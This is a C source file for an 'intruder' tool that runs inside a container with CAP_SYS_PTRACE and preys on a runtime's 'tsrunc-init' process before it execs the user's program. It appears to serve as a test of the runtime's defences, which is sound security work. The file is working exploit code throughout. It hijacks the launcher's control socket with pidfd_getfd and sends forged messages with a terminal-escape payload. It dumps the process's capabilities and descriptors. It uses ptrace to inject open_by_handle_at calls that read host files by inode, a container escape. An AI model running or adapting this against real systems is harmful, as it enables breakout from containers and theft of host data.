/*
 * A process of a container that has CAP_SYS_PTRACE and turns on every process that enters its pid namespace. It says
 * `ready`, then one line for each thing it got hold of, and goes on until it is killed.
 *
 *   intruder talk VICTIM   takes the channel to the launcher and says all that a child of the launcher's could say,
 *                          with VICTIM, a pid of the host's, where a pid could be meant
 *   intruder hold          takes the channel and never lets go of it
 *   intruder look          tells the rights and the descriptors of whoever is not yet the user's program
 *   intruder loot ID       has that process open a file of the host's by its handle, of which ID is the inode
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

struct report {
  uint32_t kind, list, index, step;
  int32_t error, aux;
  uint64_t start_ns, end_ns;
  char detail[480];
};
struct message {
  uint32_t type, token;
  struct report report;
};

static int victim;

static void say(const char *what, int pid, const char *more) {
  printf("%s %d %s\n", what, pid, more);
  fflush(stdout);
}

static void send_with(int sock, const struct message *m, int fd) {
  struct iovec iov = { (void *)m, sizeof *m };
  union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; } control = { 0 };
  struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1 };
  if (fd >= 0) {
    msg.msg_control = control.buf;
    msg.msg_controllen = sizeof control.buf;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    *c = (struct cmsghdr){ .cmsg_len = CMSG_LEN(sizeof fd), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS };
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
  }
  sendmsg(sock, &msg, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* Whatever kinds of messages there are: each with a descriptor and without, and failures last, which end it. */
static void talk(int sock) {
  static const char text[] = "\033]0;owned\007\nowned";
  int pipes[2];
  if (pipe(pipes) < 0) return;
  for (int round = 0; round < 2; round++)
    for (uint32_t type = 9; type > 0; type--) {
      if ((type == 2) == (round == 0)) continue;
      struct message m = { .type = type, .token = (uint32_t)victim };
      m.report = (struct report){ .kind = 1, .list = 1, .index = 7, .error = 1, .aux = victim };
      memcpy(m.report.detail, text, sizeof text);
      for (int with = 0; with < 2; with++) send_with(sock, &m, with ? pipes[0] : -1);
    }
  close(pipes[0]);
  close(pipes[1]);
}

static bool is_channel(int fd) {
  int type = 0;
  socklen_t size = sizeof type;
  return getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &size) == 0 && type == SOCK_SEQPACKET;
}

static bool not_executed(int pid, uint64_t *start) {
  char path[64], buf[1024];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  int fd = open(path, O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
  if (fd >= 0) close(fd);
  if (n <= 0) return false;
  buf[n] = 0;
  if (!strstr(buf, "(tsrunc-init)")) return false;
  char *at = strrchr(buf, ')');
  for (int field = 2; field < 22 && at; field++) at = strchr(at + 1, ' ');
  *start = at ? strtoull(at, NULL, 10) : 0;
  return true;
}

static void take_channel(int pid, bool keep) {
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) return;
  for (int fd = 3; fd < 24; fd++) {
    int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (got < 0) continue;
    if (is_channel(got)) {
      if (!keep) talk(got);
      say("channel", pid, keep ? "held" : "used");
      if (keep) continue;
    }
    close(got);
  }
  close(pidfd);
}

static void look(int pid) {
  static const char *const wanted[] = { "CapPrm:", "CapEff:", "Uid:" };
  char path[64], buf[8192];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  int fd = open(path, O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
  if (fd >= 0) close(fd);
  if (n <= 0) return;
  buf[n] = 0;
  bool init = strstr(buf, "Name:\ttsrunc-init\n");
  for (unsigned i = 0; init && i < sizeof wanted / sizeof *wanted; i++) {
    char *line = strstr(buf, wanted[i]), *end = line ? strchr(line, '\n') : NULL;
    if (!end) continue;
    char copy[200];
    size_t len = (size_t)(end - line) < sizeof copy - 1 ? (size_t)(end - line) : sizeof copy - 1;
    memcpy(copy, line, len);
    copy[len] = 0;
    say("status", pid, copy);
  }
  for (int number = 3; init && number < 32; number++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
    n = readlink(path, buf, sizeof buf - 1);
    if (n <= 0) continue;
    buf[n] = 0;
    say("open", pid, buf);
  }
}

#ifdef __x86_64__
/* One call in the name of a process that is stopped in or after a call: the instruction is before its rip. */
static long call_in(int pid, long nr, long a, long b, long c) {
  struct user_regs_struct saved, regs;
  if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) return -EFAULT;
  regs = saved;
  regs.rip -= 2;
  regs.rax = (unsigned long)nr;
  regs.orig_rax = ~0ul;
  regs.rdi = (unsigned long)a;
  regs.rsi = (unsigned long)b;
  regs.rdx = (unsigned long)c;
  ptrace(PTRACE_SETREGS, pid, 0, &regs);
  int status;
  if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) return -ESRCH;
  if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0) return -EFAULT;
  ptrace(PTRACE_SETREGS, pid, 0, &saved);
  return (long)regs.rax;
}

static bool stopped_in_call(int pid) {
  struct user_regs_struct regs;
  uint16_t code = 0;
  if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0) return false;
  struct iovec here = { &code, 2 }, there = { (void *)(regs.rip - 2), 2 };
  return process_vm_readv(pid, &here, 1, &there, 1, 0) == 2 && code == 0x050f;
}

/* open_by_handle_at takes CAP_DAC_READ_SEARCH of the host's, and any descriptor of the file system. */
static void loot(int pid, uint64_t inode) {
  int status;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return;
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status) || !stopped_in_call(pid)) {
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return;
  }
  struct user_regs_struct regs;
  ptrace(PTRACE_GETREGS, pid, 0, &regs);
  long at = (long)(regs.rsp - 4096) & ~15l;
  struct { unsigned bytes; int type; uint32_t words[2]; char path[8]; } handle = { 8, 1, { (uint32_t)inode, 0 }, "/" };
  struct iovec here = { &handle, sizeof handle }, there = { (void *)at, sizeof handle };
  process_vm_writev(pid, &here, 1, &there, 1, 0);
  long root = call_in(pid, SYS_openat, AT_FDCWD, at + 16, O_RDONLY | O_DIRECTORY);
  long got = call_in(pid, SYS_open_by_handle_at, root, at, O_RDONLY);
  if (got >= 0) {
    char text[200] = "";
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), fd = (int)syscall(SYS_pidfd_getfd, pidfd, (int)got, 0);
    ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    text[n > 0 ? n : 0] = 0;
    say("loot", pid, text);
    close(fd);
    close(pidfd);
  } else if (got != -ESRCH) say("denied", pid, strerror((int)-got));
  ptrace(PTRACE_DETACH, pid, 0, 0);
}
#else
static void loot(int pid, uint64_t inode) {
  (void)inode;
  say("denied", pid, "on this architecture nobody tries");
}
#endif

int main(int argc, char **argv) {
  const char *how = argc > 1 ? argv[1] : "";
  uint64_t number = argc > 2 ? strtoull(argv[2], NULL, 10) : 0, seen[64] = { 0 };
  unsigned count = 0;
  victim = (int)number;
  signal(SIGCHLD, SIG_DFL);
  say("ready", getpid(), how);
  for (;;) {
    DIR *proc = opendir("/proc");
    if (!proc) return 1;
    for (struct dirent *e; (e = readdir(proc));) {
      int pid = atoi(e->d_name);
      uint64_t start;
      if (pid < 2 || pid == getpid() || !not_executed(pid, &start)) continue;
      uint64_t id = start << 20 | (uint64_t)pid;
      bool known = false;
      for (unsigned i = 0; i < 64; i++) known |= seen[i] == id;
      if (known && strcmp(how, "look")) continue;
      if (!strcmp(how, "talk")) take_channel(pid, false);
      else if (!strcmp(how, "hold")) take_channel(pid, true);
      else if (!strcmp(how, "look")) look(pid);
      else loot(pid, number);
      if (!known) seen[count++ % 64] = id;
    }
    closedir(proc);
  }
}
